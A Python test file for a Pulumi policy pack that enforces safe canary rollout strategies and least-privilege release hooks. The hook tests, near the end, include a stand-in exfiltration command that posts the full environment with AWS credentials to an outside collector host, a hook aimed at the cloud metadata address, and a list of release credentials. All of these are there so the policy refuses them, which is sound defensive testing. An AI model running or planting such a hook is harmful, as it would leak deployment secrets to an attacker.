"""The pack judges the release strategy: the program registers it as a component, the engine sends it to
`Analyze`, and prod and staging refuse a strategy without analysis, with a big first step, or without pauses.

Every case runs the real `__main__.py` under mocks and sends what it registered to the pack over gRPC
with the stack's own policy config, as `bluegreen check` and `pulumi preview --policy-pack` do.
"""

import copy

import pytest
import yaml
from typer.testing import CliRunner

from bluegreen.cli import app
from bluegreen.policy_client import load_stack_config
from bluegreen.program_run import run_config
from bluegreen.stack_files import stack_config
from components.rollout_strategy import TYPE_TOKEN
from tests.test_offline_check import project_copy

pytestmark = pytest.mark.policy

RULES = {
    "rollout-analysis-required",
    "rollout-first-step-small",
    "rollout-pause-after-weight",
    "rollout-hook-least-privilege",
    "rollout-analysis-limits",
}


def with_rollout(stack: str, rollout: dict | None) -> dict:
    config = copy.deepcopy(stack_config(stack))
    if rollout is None:
        config.pop("bluegreen:rollout", None)
    else:
        config["bluegreen:rollout"] = rollout
    return config


def prod_rollout() -> dict:
    return copy.deepcopy(stack_config("prod")["bluegreen:rollout"])


def judged(policy_pack, config: dict, stack: str = "prod") -> list[tuple[str, str, str]]:
    run = run_config(config, stack=stack)
    [strategy] = run.of_type(TYPE_TOKEN)
    assert strategy.is_component  # reaches Analyze as a component, the way the engine sends it
    policy_pack.configure(load_stack_config(stack))
    return [
        (v.policy_name, v.enforcement_level, v.message)
        for v in policy_pack.check(run.resources.values())
        if v.policy_name in RULES
    ]


def test_the_shipped_prod_and_staging_strategies_pass(policy_pack):
    assert judged(policy_pack, stack_config("prod")) == []
    assert judged(policy_pack, stack_config("staging"), stack="staging") == []


def test_a_strategy_without_analysis_is_refused_in_prod(policy_pack):
    rollout = prod_rollout()
    del rollout["analysis"]
    [(name, level, message)] = judged(policy_pack, with_rollout("prod", rollout))
    assert (name, level) == ("rollout-analysis-required", "mandatory")
    assert 'RolloutStrategy "web-rollout": bluegreen:rollout.analysis is not set' in message


def test_a_first_step_above_25_percent_is_refused_naming_the_step(policy_pack):
    rollout = prod_rollout()
    rollout["steps"][0] = {"setWeight": 30}
    rollout["steps"][2] = {"setWeight": 40}
    [(name, level, message)] = judged(policy_pack, with_rollout("prod", rollout))
    assert (name, level) == ("rollout-first-step-small", "mandatory")
    assert "bluegreen:rollout.steps[0].setWeight is 30: the first production step sends 30%" in message


def test_a_preset_is_judged_by_what_it_expands_to_and_named_as_the_preset(policy_pack):
    found = judged(policy_pack, with_rollout("prod", {"preset": "AllAtOnce", "analysis": prod_rollout()["analysis"]}))
    [(name, _, message)] = found
    assert name == "rollout-first-step-small"
    assert "bluegreen:rollout.preset (AllAtOnce).setWeight is 100" in message
    assert judged(policy_pack, with_rollout("prod", {
        "preset": "Canary10Percent5Minutes", "analysis": prod_rollout()["analysis"],
    })) == []


def test_a_weight_without_a_pause_is_refused(policy_pack):
    rollout = prod_rollout()
    rollout["steps"] = [{"setWeight": 5}, {"setWeight": 25}, {"pause": "10m"}, {"setWeight": 100}]
    [(name, level, message)] = judged(policy_pack, with_rollout("prod", rollout))
    assert (name, level) == ("rollout-pause-after-weight", "mandatory")
    assert "bluegreen:rollout.steps[0].setWeight 5 is not followed by a pause" in message


def test_a_pause_shorter_than_the_interval_measures_nothing_and_is_refused(policy_pack):
    rollout = prod_rollout()
    rollout["steps"][1] = {"pause": "30s"}  # interval is 1m
    [(_, _, message)] = judged(policy_pack, with_rollout("prod", rollout))
    assert "bluegreen:rollout.steps[1].pause is 30s, shorter than 3 analysis intervals" in message


def test_a_pause_of_fewer_than_three_intervals_is_refused_saying_why(policy_pack):
    rollout = prod_rollout()
    rollout["analysis"].pop("initialDelay", None)
    rollout["steps"][3] = {"pause": "2m"}  # interval 1m: two measurements
    [(name, level, message)] = judged(policy_pack, with_rollout("prod", rollout))
    assert (name, level) == ("rollout-pause-after-weight", "mandatory")
    assert (
        'RolloutStrategy "web-rollout": bluegreen:rollout.steps[3].pause is 2m, shorter than 3 analysis intervals '
        "(bluegreen:rollout.analysis.interval is 60s): a step judged on fewer measurements is decided by one "
        "window's noise or one missed scrape, and has no room for a window without data; pause for at least 180s."
    ) in message
    rollout["steps"][3] = {"pause": "3m"}
    assert judged(policy_pack, with_rollout("prod", rollout)) == []


def test_the_initial_delay_and_a_post_promotion_pause_count_too(policy_pack):
    rollout = prod_rollout()
    rollout["analysis"]["initialDelay"] = "8m"  # 8m + 3 x 1m > the 10m pauses
    rollout["steps"].append({"pause": "5m"})  # after setWeight 100
    found = judged(policy_pack, with_rollout("prod", rollout))
    assert [name for name, _, _ in found] == ["rollout-pause-after-weight"] * 4
    assert "after bluegreen:rollout.analysis.initialDelay (480s)" in found[0][2]
    assert "bluegreen:rollout.steps[7].pause is 5m" in found[3][2]


@pytest.mark.parametrize(
    ("key", "value", "why"),
    [
        ("failureLimit", 3, "every failed measurement tolerated keeps a failing candidate on users for one more "
                            "interval before the rollback; use 2 or less."),
        ("inconclusiveLimit", 100, "every measurement without data tolerated is a window in which nothing was "
                                   "judged"),
    ],
)
def test_limits_above_their_caps_are_refused_in_prod_saying_why(policy_pack, key, value, why):
    rollout = prod_rollout()
    rollout["analysis"][key] = value
    [(name, level, message)] = judged(policy_pack, with_rollout("prod", rollout))
    assert (name, level) == ("rollout-analysis-limits", "mandatory")
    assert f"bluegreen:rollout.analysis.{key} is {value}: {why}" in message
    assert judged(policy_pack, with_rollout("dev", rollout), stack="dev") == []  # dev chooses for itself


def test_a_manual_gate_counts_as_a_pause(policy_pack):
    rollout = prod_rollout()
    rollout["steps"][1] = {"pause": {}}
    assert judged(policy_pack, with_rollout("prod", rollout)) == []


def test_no_strategy_at_all_in_prod_breaks_every_rule_of_the_default(policy_pack):
    found = judged(policy_pack, with_rollout("prod", None))
    assert {name for name, _, _ in found} == {"rollout-analysis-required"}
    # The default 10%, 60 s, 50%, 60 s, 100% pauses after every weight and starts at 10%; only analysis is missing.


def test_dev_may_release_all_at_once(policy_pack):
    assert judged(policy_pack, with_rollout("dev", {"preset": "AllAtOnce"}), stack="dev") == []


def test_a_pull_request_that_weakens_prod_fails_bluegreen_check_naming_the_key(
    tmp_path, monkeypatch, cli_shares_the_policy_pack
):
    monkeypatch.setenv("COLUMNS", "300")
    project_copy(tmp_path, "Pulumi.prod.yaml")
    stack_file = tmp_path / "Pulumi.prod.yaml"
    document = yaml.safe_load(stack_file.read_text())
    # 5%, 25%, 50% then 100% becomes 50% then 100%.
    document["config"]["bluegreen:rollout"]["steps"][:5] = [{"setWeight": 50}]
    stack_file.write_text(yaml.safe_dump(document))

    result = CliRunner().invoke(app, ["check", "--stack", "prod", "--project-dir", str(tmp_path)])

    assert result.exit_code == 1, result.output
    assert "bluegreen:rollout.steps[0].setWeight is 50" in result.output
    assert "rollout-first-step-small" in result.output


def with_hook(stack: str, hook: dict) -> dict:
    rollout = copy.deepcopy(stack_config(stack).get("bluegreen:rollout") or {})
    rollout["hooks"] = {"preTraffic": hook}
    return with_rollout(stack, rollout)


@pytest.mark.parametrize(
    "credential", ["AWS_SECRET_ACCESS_KEY", "PULUMI_ACCESS_TOKEN", "GITHUB_TOKEN", "ARM_CLIENT_SECRET"]
)
def test_a_hook_given_a_release_credential_is_refused_in_prod_naming_it(policy_pack, credential):
    config = with_hook("prod", {"command": ["./smoke.sh"], "env": ["SMOKE_TOKEN", credential]})
    [(name, level, message)] = judged(policy_pack, config)
    assert (name, level) == ("rollout-hook-least-privilege", "mandatory")
    assert f"bluegreen:rollout.hooks.preTraffic.env passes {credential} to the hook" in message
    assert "SMOKE_TOKEN to the hook" not in message


def test_a_hook_with_its_own_credential_passes_in_prod(policy_pack):
    assert judged(policy_pack, with_hook("prod", {"command": ["./smoke.sh"], "env": ["SMOKE_TOKEN"]})) == []


def test_a_url_hook_allowed_to_reach_metadata_is_refused_in_prod(policy_pack):
    config = with_hook("prod", {"url": "http://169.254.169.254/latest/", "allowLinkLocal": True})
    [(name, level, message)] = judged(policy_pack, config)
    assert (name, level) == ("rollout-hook-least-privilege", "mandatory")
    assert "bluegreen:rollout.hooks.preTraffic.allowLinkLocal is true" in message


def test_dev_may_name_a_credential_with_an_advisory_warning(policy_pack):
    config = with_hook("dev", {"command": ["./smoke.sh"], "env": ["AWS_PROFILE"]})
    [(name, level, _)] = judged(policy_pack, config, stack="dev")
    assert (name, level) == ("rollout-hook-least-privilege", "advisory")


def test_bluegreen_check_lists_every_hook_and_fails_prod_with_a_credential_hook(
    tmp_path, monkeypatch, cli_shares_the_policy_pack
):
    monkeypatch.setenv("COLUMNS", "300")
    project_copy(tmp_path, "Pulumi.prod.yaml")
    stack_file = tmp_path / "Pulumi.prod.yaml"
    document = yaml.safe_load(stack_file.read_text())
    exfiltrate = ["sh", "-c", 'curl -d "$(env)" https://collector.example.net/']
    document["config"]["bluegreen:rollout"]["hooks"] = {
        "preTraffic": {"command": exfiltrate, "env": ["AWS_SECRET_ACCESS_KEY"]}
    }
    stack_file.write_text(yaml.safe_dump(document))
    markdown_path = tmp_path / "check.md"

    result = CliRunner().invoke(
        app, ["check", "--stack", "prod", "--project-dir", str(tmp_path), "--markdown", str(markdown_path)]
    )

    assert result.exit_code == 1, result.output
    shown = (
        "run sh -c 'curl -d \"$(env)\" https://collector.example.net/' "
        "(environment: PATH, HOME, TEST_URL, URL, AWS_SECRET_ACCESS_KEY)"
    )
    assert f"hook preTraffic: {shown}" in result.output
    assert "rollout-hook-least-privilege" in result.output
    report = markdown_path.read_text()
    assert "### Hooks: code these stacks run on the release machine" in report
    assert "collector.example.net" in report and "AWS\\_SECRET\\_ACCESS\\_KEY" in report
